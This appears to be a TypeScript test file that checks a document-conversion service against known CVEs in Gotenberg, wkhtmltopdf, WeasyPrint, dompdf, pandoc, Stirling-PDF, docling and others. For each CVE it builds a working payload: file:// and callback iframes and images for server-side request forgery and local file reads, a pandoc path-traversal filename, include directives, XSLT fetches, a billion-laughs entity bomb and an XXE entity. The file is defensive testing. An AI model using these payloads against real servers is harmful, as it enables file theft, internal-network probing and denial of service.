/** Holes of what prints web pages and reads texts with marks. */
import { harmless, refused } from '../attacks/attack.ts';
import { byFile, type Cve } from './cve.ts';

const slow = { seconds: 90 } as const;
const page = (body: string, head = ''): string =>
  `<!doctype html><html><head><title>t</title>${head}</head><body><p>words</p>${body}</body></html>`;
const xml = '<?xml version="1.0" encoding="UTF-8"?>';
/** Entities that become a thousand million letters. */
const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY a0 "ha">${Array.from({ length: 10 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')}]>`;

export const pages: readonly Cve[] = [
  byFile(
    ['CVE-2024-21527', 'Gotenberg', 'A frame of `\\\\localhost/…` shows a file of the server in the PDF.'],
    harmless(
      '',
      'html pdf',
      ({ file, image }) =>
        page(`<iframe src="\\\\localhost${file}"></iframe><img src="\\\\localhost${image}"><iframe src="\\\\127.0.0.1${file}">`),
      slow,
    ),
  ),
  byFile(
    ['CVE-2021-23345', 'Gotenberg', 'The `src` of an element of a page is a file of the server.'],
    harmless(
      '',
      'html pdf',
      ({ file, image }) =>
        page(`<iframe src="${file}"></iframe><iframe src="file://${file}"></iframe><img src="${image}"><img src="file://${image}">`),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-55150', 'Stirling-PDF', 'What cleans a page before it is printed is passed, so that the server calls any address.'],
    harmless(
      '',
      'html pdf',
      ({ call, image }) =>
        page(
          `<img src="${call}" srcset="${call} 2x"><svg><image href="${call}"/></svg><video poster="${call}"></video><IMG SRC=${call}><img/src="file://${image}"><object data="${call}"></object>`,
          `<link rel="stylesheet" href="${call}"><style>@import "${call}"; p{background:url(${call})}</style><meta http-equiv="refresh" content="0;url=${call}"><base href="${call}">`,
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2022-35583', 'wkhtmltopdf', 'A frame shows a page of the inner network in the PDF.'],
    harmless(
      '',
      'html png',
      ({ call }) => page(`<iframe src="${call}" width="500" height="500"></iframe><embed src="${call}"><portal src="${call}"></portal>`),
      slow,
    ),
  ),
  byFile(
    ['CVE-2024-28184', 'WeasyPrint', 'Any file or address is attached to the PDF, although what may be fetched is restricted.'],
    harmless(
      '',
      'html pdf',
      ({ file, call }) =>
        page(
          `<a rel="attachment" href="file://${file}">a</a>`,
          `<link rel="attachment" href="file://${file}"><link rel="attachment" href="${call}">`,
        ),
      slow,
    ),
  ),
  byFile(
    ['CVE-2023-23924', 'dompdf', 'An image of SVG whose tag is written in capitals is fetched from any address, by any protocol.'],
    harmless(
      '',
      'html pdf',
      ({ call, image }) => {
        const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><Image xlink:href="${call}" width="9" height="9"/><IMAGE xlink:href="phar://${image}" width="9" height="9"/></svg>`;
        return page(`${drawing}<img src="data:image/svg+xml;base64,${Buffer.from(drawing).toString('base64')}">`);
      },
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-55853', 'SoftVision webPDF', 'What a page names by http: or file: is brought into the document.'],
    harmless(
      '',
      'html docx',
      ({ file, image, call }) =>
        page(`<img src="file://${image}"><img src="${call}"><iframe src="file://${file}"></iframe><link rel="stylesheet" href="${call}">`),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-55161', 'Stirling-PDF', 'An image of a Markdown text is fetched from any address.'],
    harmless(
      '',
      'md pdf',
      ({ call, image }) => `# words\n\n![a](${call})\n\n<img src="${call}"><img src="file://${image}">\n\n![b](file://${image})\n`,
      slow,
    ),
  ),
  byFile(
    ['CVE-2026-108694', 'ConvertX', 'Pandoc without --sandbox brings along what a text in reStructuredText includes.'],
    harmless(
      '',
      'rst docx',
      ({ file }) =>
        `Words\n=====\n\n.. include:: ${file}\n   :literal:\n\n.. include:: ${file}\n\n.. csv-table:: a\n   :file: ${file}\n\n.. raw:: html\n   :file: ${file}\n`,
      slow,
    ),
  ),
  byFile(
    ['CVE-2023-35936', 'pandoc', 'An image whose data say a name that climbs is written outside of the folder for media.'],
    harmless(
      '',
      'md docx',
      () => {
        const data = 'data:image/png;base64,cHJpbnQgImhlbGxvIg==';
        return `words\n\n![a](${data};.lua+%252f%252e%252e%252f%252e%252e%252f%252e%252e%252ftmp%252fhostile-pandoc)\n![b](${data};.lua+%2f%2e%2e%2f%2e%2e%2ftmp%2fhostile-pandoc)\n`;
      },
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-51591', 'pandoc', 'A frame of a web page is fetched and becomes a part of the text.'],
    harmless(
      '',
      'textile html',
      ({ call, file }) =>
        `words\n\n<iframe src="${call}"></iframe>\n\n<iframe src="file://${file}"></iframe>\n\n<IFRAME SRC='${file}'></IFRAME>\n`,
      slow,
    ),
  ),
  byFile(
    ['jgm/pandoc#8874', 'pandoc', 'An image of a text is fetched from any address when a document is made of it.'],
    harmless('', 'mediawiki docx', ({ call, image }) => `words [[File:${call}]] [[Image:${image}]] <img src="${call}"/>\n`, slow),
    'https://github.com/jgm/pandoc/issues/8874',
  ),
  byFile(
    ['CVE-2026-109200', 'LogicalDOC', 'The style sheet that an XML document names is fetched, and its XSLT is run.'],
    harmless(
      '',
      'dbk html',
      ({ call, file }) =>
        `${xml}<?xml-stylesheet type="text/xsl" href="${call}"?><?xml-stylesheet type="text/xsl" href="file://${file}"?><article xmlns="http://docbook.org/ns/docbook"><title>words</title><para>words</para></article>`,
      slow,
    ),
  ),
  byFile(
    ['CVE-2026-31247', 'docling', 'Entities in entities of a JATS article fill the memory.'],
    refused('', 'jats html', `${xml}${laughs('article')}<article><body><p>&a10;</p></body></article>`, { seconds: 30 }),
  ),
  byFile(
    ['PYSEC-2026-240', 'docling', 'External entities of an XML file are read: a patent of the USPTO.'],
    refused(
      '',
      'xml json',
      ({ file }) =>
        `${xml}<!DOCTYPE us-patent-grant [<!ENTITY taken SYSTEM "file://${file}">]><us-patent-grant><p>&taken;</p></us-patent-grant>`,
      { seconds: 30 },
    ),
    'https://osv.dev/vulnerability/PYSEC-2026-240',
  ),
];
